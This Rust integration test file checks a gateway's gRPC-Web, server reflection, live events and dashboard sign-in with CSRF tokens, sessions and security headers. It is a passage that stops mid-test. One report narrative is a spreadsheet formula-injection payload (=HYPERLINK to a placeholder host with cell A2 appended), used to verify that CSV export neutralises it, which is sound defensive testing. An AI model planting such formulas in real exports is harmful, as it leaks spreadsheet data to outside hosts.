//! What the gateway's one port promises besides plain gRPC, end to end against real
//! servers on ephemeral ports: gRPC-Web over HTTP/1.1 (its own DashboardService and a
//! forwarded RPC), server reflection v1 and v1alpha listing every service it serves, the
//! internal services (the suite's own plumbing) refused rather than forwarded, the
//! page's server-sent events following a report submitted through the gateway, the
//! dashboard asking who you are by default (bearer tokens, the login form with its CSRF
//! token, sessions that end at sign-out and at revocation, the security headers, formulas
//! neutralised in the reports CSV) and serving only aggregate figures under public access,
//! a gateway that reaches the services by name rather than address,
//! and, in `tls`, all of it over TLS and mutual TLS.

mod common;
mod tls;

use std::{collections::HashMap, net::SocketAddr, time::Duration};

use common::{
    GatewaySuite, Headers, HttpAnswer, PLAN, Server, Suite, dechunk, http_get, http_request, split_head,
    start_local_suite, start_suite,
};
use duban_kit::{
    settings::DashboardAccess,
    testing::{self, Backend},
};
use duban_proto::{
    common::v1::Period,
    departments::v1::{ListGroupsRequest, ListGroupsResponse, Role},
    gateway::v1::{GetOverviewRequest, GetOverviewResponse},
    reporting::v1::{self as rpb, reporting_service_client::ReportingServiceClient},
};
use prost::Message;
use serde_json::Value;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const FORWARDED: [&str; 4] = [
    "duban.departments.v1.DepartmentsService",
    "duban.measures.v1.MeasuresService",
    "duban.targets.v1.TargetsService",
    "duban.reporting.v1.ReportingService",
];

// ---------------------------------------------------------------------------------
// gRPC-Web

/// `message` in one gRPC-Web data frame: flag 0, big-endian length, the bytes.
fn grpc_web_frame(message: &impl Message) -> Vec<u8> {
    let bytes = message.encode_to_vec();
    let mut frame = vec![0u8];
    frame.extend_from_slice(&u32::try_from(bytes.len()).unwrap().to_be_bytes());
    frame.extend_from_slice(&bytes);
    frame
}

/// The frames of a gRPC-Web body: (flag, payload), every byte accounted for.
fn grpc_web_frames(body: &[u8]) -> Vec<(u8, Vec<u8>)> {
    let mut frames = Vec::new();
    let mut i = 0;
    while i < body.len() {
        assert!(i + 5 <= body.len(), "a truncated frame header at {i}: {body:?}");
        let len = u32::from_be_bytes(body[i + 1..i + 5].try_into().unwrap()) as usize;
        assert!(i + 5 + len <= body.len(), "a truncated frame at {i}");
        frames.push((body[i], body[i + 5..i + 5 + len].to_vec()));
        i += 5 + len;
    }
    frames
}

/// A gRPC-Web answer: its data frames and its trailers (from the trailer frame, or
/// from the headers for a trailers-only answer).
struct GrpcWebAnswer {
    http: HttpAnswer,
    data: Vec<Vec<u8>>,
    trailers: HashMap<String, String>,
}

async fn grpc_web_call(addr: SocketAddr, path: &str, token: Option<&str>, request: &impl Message) -> GrpcWebAnswer {
    let authorization = token.map(|t| format!("Bearer {t}"));
    let mut headers = vec![
        ("Content-Type", "application/grpc-web+proto"),
        ("Accept", "application/grpc-web+proto"),
        ("X-Grpc-Web", "1"),
    ];
    if let Some(value) = &authorization {
        headers.push(("Authorization", value));
    }
    let http = http_request(addr, "POST", path, &headers, &grpc_web_frame(request)).await;
    let mut data = Vec::new();
    let mut trailers = HashMap::new();
    for (flag, payload) in grpc_web_frames(&http.body) {
        match flag {
            0x00 => data.push(payload),
            0x80 => {
                assert!(trailers.is_empty(), "one trailer frame");
                for line in String::from_utf8(payload).unwrap().split("\r\n") {
                    if let Some((name, value)) = line.split_once(':') {
                        trailers.insert(name.trim().to_ascii_lowercase(), value.trim().to_owned());
                    }
                }
            }
            other => panic!("unexpected frame flag {other:#x}"),
        }
    }
    if trailers.is_empty() {
        for name in ["grpc-status", "grpc-message"] {
            if let Some(value) = http.header(name) {
                trailers.insert(name.to_owned(), value.to_owned());
            }
        }
    }
    GrpcWebAnswer { http, data, trailers }
}

async fn grpc_web_on_the_gateway_port(suite: &Suite) {
    let addr = suite.addr(Server::Gateway);
    let admin = suite.admin_token().to_owned();

    // The gateway's own service.
    let answer = grpc_web_call(
        addr,
        "/duban.gateway.v1.DashboardService/GetOverview",
        Some(&admin),
        &GetOverviewRequest {
            plan: PLAN.into(),
            as_of: None,
        },
    )
    .await;
    assert_eq!(answer.http.status, 200, "{}", answer.http.text());
    assert!(
        answer
            .http
            .header("content-type")
            .is_some_and(|c| c.starts_with("application/grpc-web")),
        "{:?}",
        answer.http.headers
    );
    assert_eq!(
        answer.trailers.get("grpc-status").map(String::as_str),
        Some("0"),
        "{:?}",
        answer.trailers
    );
    assert_eq!(answer.data.len(), 1, "one data frame");
    let overview = GetOverviewResponse::decode(answer.data[0].as_slice())
        .unwrap()
        .overview
        .expect("an overview");
    assert_eq!(overview.actions.len(), 10);
    assert_eq!(overview.measures.len(), 29);

    // A forwarded RPC, with the caller's authorization going along.
    let answer = grpc_web_call(
        addr,
        "/duban.departments.v1.DepartmentsService/ListGroups",
        Some(&admin),
        &ListGroupsRequest {
            page_size: 500,
            ..Default::default()
        },
    )
    .await;
    assert_eq!(answer.http.status, 200, "{}", answer.http.text());
    assert_eq!(
        answer.trailers.get("grpc-status").map(String::as_str),
        Some("0"),
        "{:?}",
        answer.trailers
    );
    assert_eq!(answer.data.len(), 1, "one data frame");
    let groups = ListGroupsResponse::decode(answer.data[0].as_slice()).unwrap();
    assert!(
        groups
            .groups
            .iter()
            .any(|g| g.code == "all-towns" && g.display_name == "各街镇"),
        "{:?}",
        groups.groups
    );

    // Without a token the departments service refuses it: the status comes back too.
    let answer = grpc_web_call(
        addr,
        "/duban.departments.v1.DepartmentsService/ListGroups",
        None,
        &ListGroupsRequest::default(),
    )
    .await;
    assert_eq!(answer.http.status, 200);
    assert!(answer.data.is_empty());
    assert_eq!(
        answer.trailers.get("grpc-status").map(String::as_str),
        Some("16"),
        "UNAUTHENTICATED: {:?}",
        answer.trailers
    );

    // The gateway's metrics count gRPC-Web calls by their gRPC status, whether it came
    // in trailers (which gRPC-Web carries in the body) or alone in the headers.
    let (status, metrics) = http_get(suite.metrics_addr(Server::Gateway), "/metrics").await;
    assert_eq!(status, 200);
    for counted in [
        r#"{service="duban.gateway.v1.DashboardService",method="GetOverview",code="OK"} 1"#,
        r#"{service="duban.departments.v1.DepartmentsService",method="ListGroups",code="OK"} 1"#,
        r#"{service="duban.departments.v1.DepartmentsService",method="ListGroups",code="UNAUTHENTICATED"} 1"#,
    ] {
        assert!(
            metrics.contains(&format!("\nduban_rpc_requests_total{counted}\n")),
            "{counted} in {metrics}"
        );
    }
}

// ---------------------------------------------------------------------------------
// Server reflection

/// A reflection question, the same in v1 and v1alpha.
#[derive(Debug, Clone)]
enum Ask {
    ListServices,
    FileContainingSymbol(String),
    FileByFilename(String),
}

/// A reflection answer.
#[derive(Debug)]
enum Answer {
    Services(Vec<String>),
    Files(Vec<prost_types::FileDescriptorProto>),
}

/// Reflection clients of one version: every question on one stream, answers in order.
macro_rules! reflect_with {
    ($name:ident, $($pb:ident)::+) => {
        async fn $name(addr: SocketAddr, asks: &[Ask]) -> Vec<Answer> {
            use $($pb)::+::{
                ServerReflectionRequest, server_reflection_client::ServerReflectionClient,
                server_reflection_request::MessageRequest, server_reflection_response::MessageResponse,
            };
            let mut client = ServerReflectionClient::new(testing::channel(addr, None));
            let requests: Vec<_> = asks
                .iter()
                .map(|ask| ServerReflectionRequest {
                    host: String::new(),
                    message_request: Some(match ask.clone() {
                        Ask::ListServices => MessageRequest::ListServices(String::new()),
                        Ask::FileContainingSymbol(symbol) => MessageRequest::FileContainingSymbol(symbol),
                        Ask::FileByFilename(file) => MessageRequest::FileByFilename(file),
                    }),
                })
                .collect();
            let mut responses = client
                .server_reflection_info(tokio_stream::iter(requests))
                .await
                .unwrap()
                .into_inner();
            let mut answers = Vec::new();
            for ask in asks {
                let response = tokio::time::timeout(Duration::from_secs(10), responses.message())
                    .await
                    .expect("a reflection answer within 10 s")
                    .unwrap()
                    .expect("an answer to each request");
                answers.push(match response.message_response {
                    Some(MessageResponse::ListServicesResponse(list)) => {
                        Answer::Services(list.service.into_iter().map(|s| s.name).collect())
                    }
                    Some(MessageResponse::FileDescriptorResponse(files)) => Answer::Files(
                        files
                            .file_descriptor_proto
                            .iter()
                            .map(|bytes| prost_types::FileDescriptorProto::decode(bytes.as_slice()).unwrap())
                            .collect(),
                    ),
                    other => panic!("{ask:?}: unexpected reflection answer {other:?}"),
                });
            }
            answers
        }
    };
}

reflect_with!(reflect_v1, tonic_reflection::pb::v1);
reflect_with!(reflect_v1alpha, tonic_reflection::pb::v1alpha);

fn files(answer: Answer) -> Vec<prost_types::FileDescriptorProto> {
    match answer {
        Answer::Files(files) => files,
        other => panic!("files expected: {other:?}"),
    }
}

/// ListServices names the gateway's service and the four forwarded ones, and
/// FileContainingSymbol returns MeasuresService's descriptor, whose dependencies
/// FileByFilename returns in turn (so a client can build every message type).
async fn assert_reflection(version: &str, addr: SocketAddr, reflect: impl AsyncFn(SocketAddr, &[Ask]) -> Vec<Answer>) {
    let symbol = "duban.measures.v1.MeasuresService";
    let mut answers = reflect(addr, &[Ask::ListServices, Ask::FileContainingSymbol(symbol.into())]).await;
    let found = files(answers.pop().unwrap());
    let Some(Answer::Services(services)) = answers.pop() else {
        panic!("{version}: no service list");
    };
    for service in [duban_gateway::SERVICE_NAME].iter().chain(FORWARDED.iter()) {
        assert!(
            services.iter().any(|s| s == service),
            "{version}: {service} is not listed: {services:?}"
        );
    }
    let file = found
        .iter()
        .find(|f| f.package() == "duban.measures.v1" && f.service.iter().any(|s| s.name() == "MeasuresService"))
        .unwrap_or_else(|| panic!("{version}: no file declares {symbol}: {found:?}"));
    let service = file.service.iter().find(|s| s.name() == "MeasuresService").unwrap();
    assert!(
        service.method.iter().any(|m| m.name() == "ImportPlan"),
        "{version}: ImportPlan missing"
    );
    assert!(!file.dependency.is_empty(), "{version}: {:?}", file.name());
    let asks: Vec<Ask> = file.dependency.iter().cloned().map(Ask::FileByFilename).collect();
    for (dependency, answer) in file.dependency.iter().zip(reflect(addr, &asks).await) {
        let found = files(answer);
        assert!(
            found.iter().any(|f| f.name() == dependency),
            "{version}: {dependency} not returned: {:?}",
            found.iter().map(|f| f.name()).collect::<Vec<_>>()
        );
    }
}

async fn reflection_on_the_gateway_port(suite: &Suite) {
    let addr = suite.addr(Server::Gateway);
    assert_reflection("v1", addr, reflect_v1).await;
    assert_reflection("v1alpha", addr, reflect_v1alpha).await;
}

async fn grpc_web_and_reflection(backend: Backend) {
    let Some(suite) = start_suite(backend).await else {
        return;
    };
    grpc_web_on_the_gateway_port(&suite).await;
    reflection_on_the_gateway_port(&suite).await;
    internal_services_are_not_forwarded(&suite).await;
    services_reached_by_name(&suite).await;
    suite.stop().await;
}

/// A second gateway that knows the four services by name (`http://localhost:<port>`),
/// as in a cluster, not by address: its channels resolve the names (the real DNS path
/// of `duban_kit::client::balance`) and the overview and a forwarded call still work.
async fn services_reached_by_name(suite: &Suite) {
    let mut settings = suite.settings().clone();
    for (section, server) in [
        (&mut settings.departments, Server::Departments),
        (&mut settings.measures, Server::Measures),
        (&mut settings.targets, Server::Targets),
        (&mut settings.reporting, Server::Reporting),
    ] {
        section.endpoint = format!("http://localhost:{}", suite.addr(server).port());
    }
    let any_port = SocketAddr::from(([127, 0, 0, 1], 0));
    (settings.gateway.listen, settings.gateway.metrics_listen) = (any_port, any_port);
    let gateway = duban_gateway::start(&settings).await.unwrap();
    let addr = gateway.local_addr();
    testing::until_serving(addr, duban_gateway::SERVICE_NAME, Duration::from_secs(10))
        .await
        .unwrap();

    let overview = duban_proto::gateway::v1::dashboard_service_client::DashboardServiceClient::new(testing::channel(
        addr,
        Some(suite.admin_token()),
    ))
    .get_overview(GetOverviewRequest {
        plan: PLAN.into(),
        as_of: None,
    })
    .await
    .expect("the gateway reaches the services by name")
    .into_inner()
    .overview
    .unwrap();
    assert!(overview.unreachable.is_empty(), "{:?}", overview.unreachable);
    assert!(!overview.actions.is_empty());

    let groups = duban_proto::departments::v1::departments_service_client::DepartmentsServiceClient::new(
        testing::channel(addr, Some(suite.admin_token())),
    )
    .list_groups(ListGroupsRequest::default())
    .await
    .expect("a call forwarded by name");
    assert!(!groups.into_inner().groups.is_empty());
    gateway.shutdown().await;
}

/// AuthenticateToken and SyncPlanTargets are the suite's own plumbing: their servers
/// answer them on their own addresses, and the gateway's front door, even for the
/// SERVICE token, answers UNIMPLEMENTED instead of forwarding them.
async fn internal_services_are_not_forwarded(suite: &Suite) {
    use common::Caller;
    use duban_proto::{
        departments::v1::{
            AuthenticateTokenRequest, departments_internal_service_client::DepartmentsInternalServiceClient,
        },
        targets::v1::{SyncPlanTargetsRequest, targets_internal_service_client::TargetsInternalServiceClient},
    };
    let authenticate = AuthenticateTokenRequest {
        token: suite.admin_token().to_owned(),
    };
    let sync = SyncPlanTargetsRequest {
        plan: PLAN.into(),
        validate_only: true,
        ..Default::default()
    };

    // On their own servers they are served.
    let who = DepartmentsInternalServiceClient::new(suite.channel(Server::Departments, Caller::Service))
        .authenticate_token(authenticate.clone())
        .await
        .expect("the departments server answers AuthenticateToken");
    assert_eq!(who.into_inner().principal.unwrap().role(), Role::Admin);
    let direct = TargetsInternalServiceClient::new(suite.channel(Server::Targets, Caller::Service))
        .sync_plan_targets(sync.clone())
        .await;
    assert_ne!(
        direct.as_ref().map_err(tonic::Status::code).err(),
        Some(tonic::Code::Unimplemented),
        "{direct:?}"
    );

    // Through the gateway they are not.
    let status = DepartmentsInternalServiceClient::new(suite.channel(Server::Gateway, Caller::Service))
        .authenticate_token(authenticate)
        .await
        .expect_err("the gateway must not forward AuthenticateToken");
    assert_eq!(status.code(), tonic::Code::Unimplemented, "{status:?}");
    let status = TargetsInternalServiceClient::new(suite.channel(Server::Gateway, Caller::Service))
        .sync_plan_targets(sync)
        .await
        .expect_err("the gateway must not forward SyncPlanTargets");
    assert_eq!(status.code(), tonic::Code::Unimplemented, "{status:?}");
}

// ---------------------------------------------------------------------------------
// Server-sent events

/// An open `text/event-stream` answer, read as it arrives.
struct EventStream {
    stream: tokio::net::TcpStream,
    raw: Vec<u8>,
}

impl EventStream {
    async fn open(addr: SocketAddr, path: &str, headers: &[(&str, &str)]) -> (u16, Headers, EventStream) {
        let mut stream = tokio::net::TcpStream::connect(addr).await.unwrap();
        let mut request = format!("GET {path} HTTP/1.1\r\nHost: {addr}\r\nAccept: text/event-stream\r\n");
        for (name, value) in headers {
            request.push_str(&format!("{name}: {value}\r\n"));
        }
        request.push_str("\r\n");
        stream.write_all(request.as_bytes()).await.unwrap();
        let mut events = EventStream {
            stream,
            raw: Vec::new(),
        };
        loop {
            if let Some((status, headers, _)) = split_head(&events.raw) {
                return (status, headers, events);
            }
            events.read(Duration::from_secs(20)).await;
        }
    }

    async fn read(&mut self, within: Duration) {
        let mut buffer = [0u8; 16 * 1024];
        let n = tokio::time::timeout(within, self.stream.read(&mut buffer))
            .await
            .expect("more of the event stream in time")
            .unwrap();
        assert!(n > 0, "the event stream ended");
        self.raw.extend_from_slice(&buffer[..n]);
    }

    /// The `overview` events received so far, as JSON.
    fn events(&self) -> Vec<Value> {
        let Some((_, _, body)) = split_head(&self.raw) else {
            return Vec::new();
        };
        let text = String::from_utf8_lossy(&dechunk(body)).into_owned();
        text.split("\n\n")
            .filter(|block| block.lines().any(|l| l.trim() == "event: overview"))
            .filter_map(|block| {
                let data: String = block.lines().filter_map(|l| l.strip_prefix("data:")).collect();
                serde_json::from_str(data.trim()).ok()
            })
            .collect()
    }

    /// Waits up to `within` for an event `matches` accepts.
    async fn wait_for(&mut self, within: Duration, matches: impl Fn(&Value) -> bool) -> Value {
        let deadline = tokio::time::Instant::now() + within;
        loop {
            if let Some(event) = self.events().into_iter().find(&matches) {
                return event;
            }
            let left = deadline.saturating_duration_since(tokio::time::Instant::now());
            assert!(
                !left.is_zero(),
                "no matching event within {within:?}: {:?}",
                self.events()
            );
            self.read(left).await;
        }
    }
}

async fn live_events_follow_reports(backend: Backend) {
    // Read as the local user of `duban up`; sign-in is `dashboard_asks_who_you_are`'s.
    let Some(suite) = start_local_suite(backend).await else {
        return;
    };
    let addr = suite.addr(Server::Gateway);
    let mut dashboard = suite.dashboard(suite.admin_token());
    let overview = suite.overview(&mut dashboard).await;
    // A snapshot without baseline: its trajectory is flat at the value (50 projects).
    let status = overview
        .targets
        .iter()
        .find(|t| t.target.as_ref().is_some_and(|t| t.code == "district-major-projects"))
        .expect("district-major-projects in the overview");
    let target = status.target.clone().unwrap();
    assert_eq!(target.value, Some("50".parse().unwrap()));
    assert_eq!(status.percent_complete, None, "no value yet");

    let (status, headers, mut events) = EventStream::open(addr, "/api/v1/events", &[]).await;
    assert_eq!(status, 200);
    let content_type = headers
        .iter()
        .find(|(n, _)| n == "content-type")
        .map(|(_, v)| v.as_str());
    assert!(
        content_type.is_some_and(|c| c.starts_with("text/event-stream")),
        "{headers:?}"
    );
    // The first event comes at once, before any change: the page is subscribed.
    let first = events.wait_for(Duration::from_secs(15), |_| true).await;
    assert_eq!(first["changed_reports"], Value::Array(vec![]), "{first}");
    assert!(first["compute_time"].is_string(), "{first}");

    let mut reporting = ReportingServiceClient::new(testing::channel(addr, Some(suite.admin_token())));
    let stored = reporting
        .submit_report(rpb::SubmitReportRequest {
            parent: PLAN.into(),
            report: Some(rpb::Report {
                measure_number: target.measure_number.clone(),
                department: target.reporting_departments[0].clone(),
                period: Some(Period { year: 2023, month: 11 }),
                overall_status: rpb::OverallStatus::OnTrack as i32,
                narrative: "40个区重大项目在建".into(),
                metric_values: suite
                    .final_values(
                        &target.measure_number,
                        &target.reporting_departments[0],
                        &target.code,
                        "40",
                    )
                    .await,
                ..Default::default()
            }),
            request_id: uuid::Uuid::new_v4().to_string(),
            validate_only: false,
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner();
    let pushed = events
        .wait_for(Duration::from_secs(15), |event| {
            event["changed_reports"]
                .as_array()
                .is_some_and(|names| names.iter().any(|n| n.as_str() == Some(stored.name.as_str())))
        })
        .await;
    assert!(pushed["unreachable"].as_array().is_some_and(Vec::is_empty), "{pushed}");

    // 40 of a flat 50 is 80 % complete (the trajectory's start is the value itself).
    let overview = suite.overview(&mut dashboard).await;
    let now = overview
        .targets
        .iter()
        .find(|t| t.target.as_ref().is_some_and(|t| t.code == "district-major-projects"))
        .unwrap();
    assert_eq!(now.actual, Some("40".parse().unwrap()));
    assert_eq!(now.percent_complete, Some(80.0));
    // As of today: with no date the plan's last day is shown, before this report.
    let path = format!("/api/v1/overview?as_of={}", common::today_param());
    let (status, body) = common::http_get(addr, &path).await;
    assert_eq!(status, 200);
    let json: Value = serde_json::from_str(&body).unwrap();
    let row = json["targets"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["code"] == "district-major-projects")
        .expect("the target in the JSON overview");
    assert_eq!(row["percent_complete"], 80.0, "{row}");
    drop(events);
    suite.stop().await;
}

// ---------------------------------------------------------------------------------
// gateway.dashboard_access: sign-in, sessions, CSRF, security headers, public figures

fn form_encode(value: &str) -> String {
    value
        .bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => (b as char).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

async fn post_form(addr: SocketAddr, path: &str, fields: &[(&str, &str)], headers: &[(&str, &str)]) -> HttpAnswer {
    let body = fields
        .iter()
        .map(|(name, value)| format!("{name}={}", form_encode(value)))
        .collect::<Vec<_>>()
        .join("&");
    let mut all = vec![("Content-Type", "application/x-www-form-urlencoded")];
    all.extend_from_slice(headers);
    http_request(addr, "POST", path, &all, body.as_bytes()).await
}

async fn get(addr: SocketAddr, path: &str, headers: &[(&str, &str)]) -> HttpAnswer {
    http_request(addr, "GET", path, headers, b"").await
}

fn is_login_redirect(answer: &HttpAnswer) -> bool {
    answer.status == 303 && answer.header("location") == Some("/login")
}

/// The attributes of the `Set-Cookie` header that sets `name`: `name=value` first, then the rest.
fn cookie_set(answer: &HttpAnswer, name: &str) -> Option<Vec<String>> {
    answer
        .all("set-cookie")
        .into_iter()
        .find(|c| c.starts_with(&format!("{name}=")))
        .map(|c| c.split(';').map(|a| a.trim().to_owned()).collect())
}

fn has_attribute(attributes: &[String], wanted: &str) -> bool {
    attributes.iter().any(|a| {
        a.eq_ignore_ascii_case(wanted)
            || a.to_ascii_lowercase()
                .starts_with(&format!("{}=", wanted.to_ascii_lowercase()))
    })
}

/// The security headers every HTML answer carries.
fn assert_security_headers(answer: &HttpAnswer, what: &str) {
    assert_eq!(
        answer.header("content-security-policy"),
        Some(duban_gateway::http::CONTENT_SECURITY_POLICY),
        "{what}: {:?}",
        answer.headers
    );
    let csp = duban_gateway::http::CONTENT_SECURITY_POLICY;
    for directive in ["frame-ancestors 'none'", "script-src 'self'", "style-src 'self'"] {
        assert!(csp.contains(directive), "{csp}");
    }
    assert!(!csp.contains("unsafe-inline"), "{csp}");
    assert_eq!(answer.header("x-content-type-options"), Some("nosniff"), "{what}");
    assert_eq!(answer.header("x-frame-options"), Some("DENY"), "{what}");
    assert_eq!(answer.header("referrer-policy"), Some("no-referrer"), "{what}");
}

/// The login form's CSRF token: from its cookie, which must equal the form's hidden field.
fn login_csrf(form: &HttpAnswer) -> String {
    let attributes = cookie_set(form, "duban_login_csrf").expect("the login form sets its CSRF cookie");
    for attribute in ["HttpOnly", "SameSite=Strict", "Path=/login"] {
        assert!(has_attribute(&attributes, attribute), "{attribute}: {attributes:?}");
    }
    let value = attributes[0]["duban_login_csrf=".len()..].to_owned();
    assert!(value.len() >= 43, "256 random bits: {value}");
    assert!(
        form.text().contains(&format!("name=\"csrf\" value=\"{value}\"")),
        "the form carries the cookie's token"
    );
    value
}

/// Signs in with `token` through the login form, as a browser does; the session cookie's
/// attributes.
async fn sign_in(addr: SocketAddr, token: &str, extra: &[(&str, &str)]) -> Vec<String> {
    let form = get(addr, "/login", extra).await;
    assert_eq!(form.status, 200);
    let csrf = login_csrf(&form);
    let cookie = format!("duban_login_csrf={csrf}");
    let mut headers = vec![("Cookie", cookie.as_str())];
    headers.extend_from_slice(extra);
    let accepted = post_form(addr, "/login", &[("token", token), ("csrf", &csrf)], &headers).await;
    assert!(
        accepted.status == 303 && accepted.header("location") == Some("/"),
        "{} {:?} {}",
        accepted.status,
        accepted.headers,
        accepted.text()
    );
    cookie_set(&accepted, "duban_session").expect("a session cookie")
}

/// The signed-in page's sign-out CSRF token.
fn logout_csrf(page: &str) -> String {
    let marker = "<form method=\"post\" action=\"/logout\" id=\"logout\"><input type=\"hidden\" name=\"csrf\" value=\"";
    let start = page.find(marker).expect("a sign-out form") + marker.len();
    page[start..].split('"').next().unwrap().to_owned()
}

/// Submits a final report by the first unit responsible for `district-major-projects`, with `narrative`.
async fn submit_with_narrative(suite: &Suite, narrative: &str) -> rpb::Report {
    let mut dashboard = suite.dashboard(suite.admin_token());
    let overview = suite.overview(&mut dashboard).await;
    let target = overview
        .targets
        .iter()
        .filter_map(|t| t.target.clone())
        .find(|t| t.code == "district-major-projects")
        .expect("district-major-projects in the overview");
    let department = target.reporting_departments[0].clone();
    let mut reporting =
        ReportingServiceClient::new(testing::channel(suite.addr(Server::Gateway), Some(suite.admin_token())));
    reporting
        .submit_report(rpb::SubmitReportRequest {
            parent: PLAN.into(),
            report: Some(rpb::Report {
                measure_number: target.measure_number.clone(),
                department: department.clone(),
                period: Some(Period { year: 2023, month: 10 }),
                overall_status: rpb::OverallStatus::OnTrack as i32,
                narrative: narrative.into(),
                metric_values: suite
                    .final_values(&target.measure_number, &department, &target.code, "30")
                    .await,
                ..Default::default()
            }),
            request_id: uuid::Uuid::new_v4().to_string(),
            validate_only: false,
            ..Default::default()
        })
        .await
        .unwrap()
        .into_inner()
}

/// The routes that show a report's text, a blocker or a unit's detail.
const SENSITIVE_PAGES: [&str; 3] = ["/", "/measures/4.2", "/departments/anting-town"];
const SENSITIVE_API: [&str; 7] = [
    "/api/v1/overview",
    "/api/v1/overview.csv",
    "/api/v1/reports.csv",
    "/api/v1/measures/4.2",
    "/api/v1/departments/anting-town",
    "/api/v1/alerts",
    "/api/v1/events",
];

async fn dashboard_asks_who_you_are(backend: Backend) {
    // The defaults of `duban serve gateway`, with a one-second token cache: the revocation window.
    let Some(suite) = Suite::builder(backend)
        .all()
        .configure(|settings| settings.auth.cache_ttl_seconds = 1)
        .start()
        .await
    else {
        return;
    };
    let addr = suite.addr(Server::Gateway);
    let leadership = suite.issue_token(Role::Leadership, "").await;
    let department = suite.issue_token(Role::Department, "anting-town").await;
    let formula = "=HYPERLINK(\"http://x/?\"&A2,\"详情\")";
    let stored = submit_with_narrative(&suite, formula).await;

    // Anonymous: every page sends to the login form, every API call and export is 401.
    for path in SENSITIVE_PAGES {
        let page = get(addr, path, &[]).await;
        assert!(is_login_redirect(&page), "{path}: {} {:?}", page.status, page.headers);
        assert_security_headers(&page, path);
    }
    for path in SENSITIVE_API {
        let answer = get(addr, path, &[]).await;
        assert_eq!(answer.status, 401, "{path}: {}", answer.text());
        assert!(!answer.text().contains("HYPERLINK"), "{path}");
    }
    // What a browser needs to sign in stays open.
    for (path, kind) in [
        ("/login", "text/html"),
        ("/static/style.css", "text/css"),
        ("/static/live.js", "text/javascript"),
    ] {
        let answer = get(addr, path, &[]).await;
        assert_eq!(answer.status, 200, "{path}");
        assert!(
            answer.header("content-type").is_some_and(|c| c.starts_with(kind)),
            "{path}"
        );
        assert_security_headers(&answer, path);
    }
    assert_eq!(get(addr, "/static/other.js", &[]).await.status, 404);

    // Bearer tokens: leadership reads, a department, the gateway's own service token and an unknown
    // token do not.
    let bearer = format!("Bearer {leadership}");
    let answer = get(addr, "/api/v1/overview", &[("Authorization", &bearer)]).await;
    assert_eq!(answer.status, 200, "{}", answer.text());
    let json: Value = serde_json::from_slice(&answer.body).unwrap();
    assert_eq!(json["actions"].as_array().unwrap().len(), 10);
    for (token, status) in [
        (department.as_str(), 403),
        (suite.service_token(), 403),
        ("dbn_not_a_token", 401),
    ] {
        let answer = get(
            addr,
            "/api/v1/overview",
            &[("Authorization", &format!("Bearer {token}"))],
        )
        .await;
        assert_eq!(answer.status, status, "{}", answer.text());
    }

    // The login form: its CSRF token must come back in both the field and the cookie.
    let form = get(addr, "/login", &[]).await;
    let csrf = login_csrf(&form);
    let cookie = format!("duban_login_csrf={csrf}");
    let other = get(addr, "/login", &[]).await;
    let other_csrf = login_csrf(&other);
    assert_ne!(csrf, other_csrf, "every form has its own token");
    for (fields, headers, why) in [
        (vec![("token", leadership.as_str())], vec![], "no token, no cookie"),
        (
            vec![("token", leadership.as_str())],
            vec![("Cookie", cookie.as_str())],
            "no token in the form",
        ),
        (
            vec![("token", leadership.as_str()), ("csrf", csrf.as_str())],
            vec![],
            "no cookie",
        ),
        (
            vec![("token", leadership.as_str()), ("csrf", other_csrf.as_str())],
            vec![("Cookie", cookie.as_str())],
            "a token from another form",
        ),
    ] {
        let refused = post_form(addr, "/login", &fields, &headers).await;
        assert_eq!(refused.status, 403, "{why}: {}", refused.text());
        assert!(
            cookie_set(&refused, "duban_session").is_none(),
            "{why}: {:?}",
            refused.headers
        );
    }
    // ... and a good form with a wrong token opens nothing.
    for token in ["dbn_not_a_token", ""] {
        let refused = post_form(
            addr,
            "/login",
            &[("token", token), ("csrf", &csrf)],
            &[("Cookie", &cookie)],
        )
        .await;
        assert_eq!(refused.status, 401, "{token:?}: {}", refused.text());
        assert!(cookie_set(&refused, "duban_session").is_none(), "{:?}", refused.headers);
    }

    // A unit's token opens a session for its own page (/my), which the dashboard refuses: its
    // pages send it to that page (not to the login form it has just passed), its API answers
    // 403, and the session stays open.
    let unit = post_form(
        addr,
        "/login",
        &[("token", department.as_str()), ("csrf", &csrf)],
        &[("Cookie", &cookie)],
    )
    .await;
    assert_eq!(
        (unit.status, unit.header("location")),
        (303, Some("/my")),
        "{}",
        unit.text()
    );
    let unit_session = cookie_set(&unit, "duban_session").expect("a unit's session")[0].clone();
    let unit_cookie = [("Cookie", unit_session.as_str())];
    for path in SENSITIVE_PAGES {
        let away = get(addr, path, &unit_cookie).await;
        assert_eq!((away.status, away.header("location")), (303, Some("/my")), "{path}");
    }
    for path in SENSITIVE_API {
        assert_eq!(get(addr, path, &unit_cookie).await.status, 403, "{path}");
    }
    assert_eq!(get(addr, "/my", &unit_cookie).await.status, 200, "the unit's own page");

    // A leadership token opens a session: the cookie holds its id, never the token.
    let session = sign_in(addr, &leadership, &[]).await;
    let pair = session[0].clone();
    let id = &pair["duban_session=".len()..];
    assert!(
        id.len() >= 43 && !id.contains(&leadership) && !leadership.contains(id),
        "{pair}"
    );
    for attribute in ["HttpOnly", "SameSite=Strict", "Path=/", "Max-Age"] {
        assert!(has_attribute(&session, attribute), "{attribute}: {session:?}");
    }
    assert!(!has_attribute(&session, "Secure"), "plain HTTP: {session:?}");
    // Behind a TLS-terminating proxy the cookies are Secure.
    let behind_tls = sign_in(addr, &leadership, &[("X-Forwarded-Proto", "https")]).await;
    assert!(has_attribute(&behind_tls, "Secure"), "{behind_tls:?}");

    // The session opens every page, API call, export and the live events.
    let cookie = [("Cookie", pair.as_str())];
    for path in SENSITIVE_PAGES {
        let page = get(addr, path, &cookie).await;
        assert_eq!(page.status, 200, "{path}: {:?}", page.headers);
        assert_security_headers(&page, path);
        assert!(page.text().contains("id=\"logout\""), "{path}: a sign-out button");
        assert!(
            !page.text().contains("<script>") && !page.text().contains("style=\""),
            "{path}: nothing inline"
        );
    }
    for path in SENSITIVE_API.into_iter().filter(|p| *p != "/api/v1/events") {
        let answer = get(addr, path, &cookie).await;
        assert_eq!(answer.status, 200, "{path}: {}", answer.text());
    }
    let (status, headers, mut events) = EventStream::open(addr, "/api/v1/events", &cookie).await;
    assert_eq!(status, 200, "{headers:?}");
    events.wait_for(Duration::from_secs(15), |_| true).await;
    drop(events);

    // The narrative that would be a formula is text in the reports CSV.
